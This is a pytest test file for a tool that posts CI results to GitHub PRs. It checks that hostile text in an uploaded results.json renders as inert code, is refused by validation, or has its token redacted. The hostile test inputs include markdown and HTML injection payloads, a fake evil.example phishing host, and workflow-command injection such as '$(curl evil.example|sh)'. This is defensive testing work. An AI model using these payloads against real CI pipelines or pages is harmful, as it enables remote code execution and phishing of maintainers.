"""A hostile results.json (what a fork can upload) renders as inert text, or is refused clearly.

The Markdown the bot posts (PR comment, check-run summary, job summary) is parsed with
markdown-it-py in its GitHub-like mode (HTML on, tables, strikethrough, linkify); no link,
image, mention, issue reference or HTML from the untrusted fields may come out of it: every
hostile string must end up inside code (inline code, a fence, or <code> in our own HTML).
"""

from __future__ import annotations

import base64
import json
import re
from urllib.parse import quote

import pytest
from gh_helpers import SHA, TOKEN, dump, make_run, target
from markdown_it import MarkdownIt

from emscripten_python.cli.main import main
from emscripten_python.errors import ResultsError
from emscripten_python.github.reporter import annotations, check_title, comment_body
from emscripten_python.github.text import truncate_markdown
from emscripten_python.report.markdown import render_markdown
from emscripten_python.results.model import Run
from emscripten_python.untrusted import code_block, code_span, actions_safe
from emscripten_python.results.validation import validate_results

# Every hostile string carries EVIL, so it can be found wherever it ends up.
HOSTILE = [
    "EVIL @python/core @octocat please merge",
    "EVIL ![pixel](https://evil.example/p.png)",
    "EVIL <img src=https://evil.example/p.png onerror=alert(1)>",
    'EVIL <a href="https://evil.example">click</a> <script>alert(1)</script>',
    "EVIL [click me](https://evil.example/phish) https://evil.example/x www.evil.example",
    "EVIL #123 python/cpython#1 GH-1 4b1c0a7d9e2f36a8c5d7e9f0a1b2c3d4e5f60718",
    "EVIL ```\n@python/core\n```\n[x](https://evil.example)",
    "EVIL ````\n~~~\n</details><details><summary>@python/core</summary>",
    "EVIL ``` ```` ````` ` `` `",
    "::set-output name=result::$(curl evil.example|sh)\n::add-mask::EVIL\n##[error]EVIL\n  ::stop-commands::x",
    "EVIL | cell | break |\n|---|---|\n| @python/core | x |",
    "EVIL \u202e\u2066bidi\u2069 \x1b[31mansi\x1b[0m \x00nul",
    "EVIL <!-- --> --> <details> *bold* _em_ ~~strike~~ \\ \\\\",
    "EVIL &lt;img src=x&gt; &#64;python/core",
]
MENTION = re.compile(r"@[A-Za-z0-9]")


def hostile_run(base: Run) -> Run:
    """Every untrusted text field of a valid results.json set to a hostile string."""
    run = make_run(base, run_id="e" * 32, created="2026-01-01T00:00:00+00:00", failing=len(HOSTILE))
    data = run.to_dict()
    pick = iter(HOSTILE * 10)
    for case in data["tests"]["files"][-1]["cases"]:
        # Names with C0 controls are refused by validation (see the test below); the rest pass.
        case["name"] = next(pick).replace("\x00", "").replace("\x1b", "")
        case["message"], case["traceback"] = next(pick), next(pick)
    for test_file in data["tests"]["files"]:
        if test_file["outcome"] in ("crashed", "timed-out"):
            test_file["crash"] = next(pick)
        test_file["log_excerpt"] = next(pick)
    data["tests"]["files"].append({"name": "test_flaky_one", "outcome": "failed", "cases": [],
                                   "log_excerpt": next(pick)})
    data["errors"] = HOSTILE[:]
    data["source"].update(cpython_version=next(pick), era=next(pick), branch=next(pick))
    data["toolchain"].update(emcc_version=next(pick), kind=next(pick), pinned_version=next(pick),
                             matches_pin=False, minimum_version=None)
    data["node"]["version"] = next(pick)
    data["origin"]["builder"] = next(pick)
    data["pythoninfo"] = {"host": {"status": "ok", "info": {"sys.version": "\n".join(HOSTILE),
                                                            "platform.platform": next(pick)}}}
    validate_results(data)             # all of it is *valid*: shape is fine, content is hostile
    fresh = Run.from_dict(data)
    fresh.decide_outcome()
    return fresh


def _tokens(markdown: str):
    md = MarkdownIt("gfm-like")         # commonmark + html + table + strikethrough + linkify
    for token in md.parse(markdown):
        yield token
        yield from token.children or []


ALLOWED_TAGS = {"details", "summary", "b", "code", "sub"}


def assert_inert(markdown: str, trusted_links: set[str] = frozenset(), *, shown: bool = True) -> None:
    bad = []
    for token in _tokens(markdown):
        if token.type == "image":
            bad.append(("image", token.attrs))
        elif token.type == "link_open" and token.attrs.get("href") not in trusted_links:
            bad.append(("link", token.attrs))
        elif token.type in ("html_block", "html_inline"):
            content = token.content
            if content.lstrip().startswith("<!-- emscripten-python report:"):
                assert "EVIL" not in content
                continue
            tags = {t.lower() for t in re.findall(r"</?([A-Za-z][A-Za-z0-9-]*)", content)}
            if tags - ALLOWED_TAGS:
                bad.append(("html", content[:100]))
            outside = re.sub(r"<code>.*?</code>", "", content, flags=re.S)
            if "EVIL" in outside or MENTION.search(outside):
                bad.append(("html text", content[:100]))
        elif token.type == "text" and ("EVIL" in token.content or MENTION.search(token.content)
                                       or "evil.example" in token.content):
            bad.append(("text", token.content[:100]))
    assert bad == [], bad
    if shown:   # and the hostile strings did get shown, quoted, not dropped
        assert "EVIL" in markdown


def test_comment_check_summary_and_job_summary_render_inert(example_run):
    run = hostile_run(example_run)
    chosen = target()
    body = comment_body(run, chosen)
    assert_inert(body, {chosen.details_url})
    summary = truncate_markdown(render_markdown(run), 65535, chosen.details_url)
    assert_inert(summary)
    # Cut short, the check-run summary still closes every fence it opened.
    for limit in (1500, 3000, 6000):
        cut = truncate_markdown(render_markdown(run), limit)
        assert len(cut) <= limit
        assert_inert(cut)
    # Titles, descriptions and annotations are plain text: no control characters in them.
    texts = [check_title(run)] + [a["title"] + a["message"] for a in annotations(run)]
    assert not any(re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u2066]", t) for t in texts)


def test_job_summary_of_a_hostile_artifact(tmp_path, example_run, monkeypatch):
    from emscripten_python.github import action

    out = dump(tmp_path / "out", hostile_run(example_run))
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        (tmp_path / name).touch()
        monkeypatch.setenv(name, str(tmp_path / name))
    action.publish(out, None)
    assert_inert((tmp_path / "GITHUB_STEP_SUMMARY").read_text())
    assert "result=error\n" in (tmp_path / "GITHUB_OUTPUT").read_text()   # it has errors


@pytest.mark.parametrize(("outcome", "result"), [("$(curl evil.example|sh)", "error"),
                                                 ("success\nexit-code=0", "error"), ("cancelled", "cancelled")])
def test_job_outputs_of_a_bad_outcome_come_from_a_fixed_set(tmp_path, example_run, monkeypatch, outcome, result):
    from emscripten_python.github import action

    data = example_run.to_dict()
    data["outcome"] = outcome
    out = tmp_path / "out"
    out.mkdir()
    (out / "results.json").write_text(json.dumps(data))
    for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"):
        (tmp_path / name).touch()
        monkeypatch.setenv(name, str(tmp_path / name))
    action.publish(out, None)
    outputs = (tmp_path / "GITHUB_OUTPUT").read_text()
    assert f"result={result}\n" in outputs and "curl" not in outputs and "exit-code=0" not in outputs
    summary = (tmp_path / "GITHUB_STEP_SUMMARY").read_text()
    assert ("is not valid" in summary) == (result == "error")
    assert_inert(summary, shown=False)


def test_wrong_types_huge_fields_and_bad_names_are_refused_before_anything_is_posted(
        fake, tmp_path, example_run, monkeypatch, capfd):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    data = example_run.to_dict()
    data["tests"]["files"][0]["name"] = "EVIL @python/core <img src=x>"
    next(f for f in data["tests"]["files"] if f["cases"])["cases"][0]["name"] = "EVIL \x1b[31m\x00"
    data["tests"]["files"][1]["tests_run"] = "lots"
    data["tests"]["files"][1]["duration"] = 1e400      # json writes Infinity
    data["errors"] = ["x" * 5000]
    data["outcome"] = "$(curl evil.example|sh)"
    out = tmp_path / "out"
    out.mkdir()
    (out / "results.json").write_text(json.dumps(data))
    code = main(["report", "--out", str(out), "--github", "--repo", "python/cpython", "--pr", "7", "--sha", SHA,
                 "--base-url", fake.base_url, "--settle", "0"])
    err = capfd.readouterr().err
    assert code == ResultsError.exit_code == 40
    assert "Infinity is not valid JSON" in err
    data["tests"]["files"][1]["duration"] = 1.0
    (out / "results.json").write_text(json.dumps(data))
    assert main(["report", "--out", str(out), "--github", "--repo", "python/cpython", "--pr", "7", "--sha", SHA,
                 "--base-url", fake.base_url, "--settle", "0"]) == 40
    err = capfd.readouterr().err
    for expected in ("tests.files[0].name", "tests.files[1].tests_run: expected an integer",
                     "errors[0]: 5,000 characters", "outcome: '$(curl evil.example|sh)' is not one of",
                     "contains control characters"):
        assert expected in err
    assert fake.log == [], "nothing was sent"


def test_plain_report_on_stdout_carries_no_workflow_command(tmp_path, example_run, capsys):
    out = dump(tmp_path / "out", hostile_run(example_run))
    assert main(["report", "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "EVIL" in printed
    assert not re.search(r"^\s*(::|##\[)", printed, re.M), "a line the runner would execute"


def test_an_unknown_outcome_never_leaves_a_check_run_in_progress(fake, example_run):
    # Validation refuses it first; the check run guards on its own too.
    from gh_helpers import reporter as make_reporter

    run = make_run(example_run, run_id="a" * 32, created="2026-01-01T00:00:00+00:00")
    run.outcome = "bogus"
    result = make_reporter(fake).report(run, target(parts=("check",)))
    assert result.ok
    [check] = fake.check_runs.values()
    assert (check["status"], check["conclusion"]) == ("completed", "failure")
    assert check["output"]["title"].startswith("unknown outcome 'bogus'")


def test_helpers_fence_longer_than_any_backtick_run_and_break_commands():
    assert code_span("a`b") == "``a`b``" and code_span("`x`") == "`` `x` ``"
    assert code_span("a|b", table=True) == "`a\\|b`"
    block = code_block("x\n````\ny")
    assert block.startswith("`````\n") and block.endswith("\n`````")
    assert actions_safe("ok\n::add-mask::x\n  ##[group]y", multiline=True) == \
        "ok\n:\u2060:add-mask::x\n  ##\u2060[group]y"
    assert actions_safe("ok\n::add-mask::x x##[group]y") == "ok%0A::add-mask::x x##\u2060[group]y"


def test_the_token_is_redacted_in_every_encoding_a_server_could_echo(fake, tmp_path, example_run, monkeypatch,
                                                                       capfd, caplog):
    import logging

    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    echoes = [base64.b64encode(f"{prefix}{TOKEN}".encode()).decode()
              for prefix in ("", "x", "xy", "x-access-token:", ":")] + [quote(TOKEN, safe=""), TOKEN]
    fake.faults = lambda method, path: "500"
    original = fake._fault_reply

    def echo_everything(kind, auth):
        status, body, headers = original(kind, auth)
        return status, {"message": "upstream saw " + " ".join(echoes)}, headers

    fake._fault_reply = echo_everything
    out = dump(tmp_path / "out", make_run(example_run, run_id="a" * 32, created="2026-01-01T00:00:00+00:00"))
    code = main(["report", "--out", str(out), "--github", "--repo", "python/cpython", "--pr", "7", "--sha", SHA,
                 "--base-url", fake.base_url, "--settle", "0", "--timeout", "1", "--attempts", "2",
                 "--backoff", "0.001", "--throttle", "0"])
    assert code == 50
    captured = capfd.readouterr()
    everything = captured.out + captured.err + caplog.text + (out / "github-report.json").read_text()
    assert "upstream saw" in everything
    leaks = [echo for echo in echoes if echo[4:-4] in everything]
    assert leaks == []
    secret_core = base64.b64encode(TOKEN.encode()).decode()[8:-8]
    assert secret_core not in everything and TOKEN[4:20] not in everything
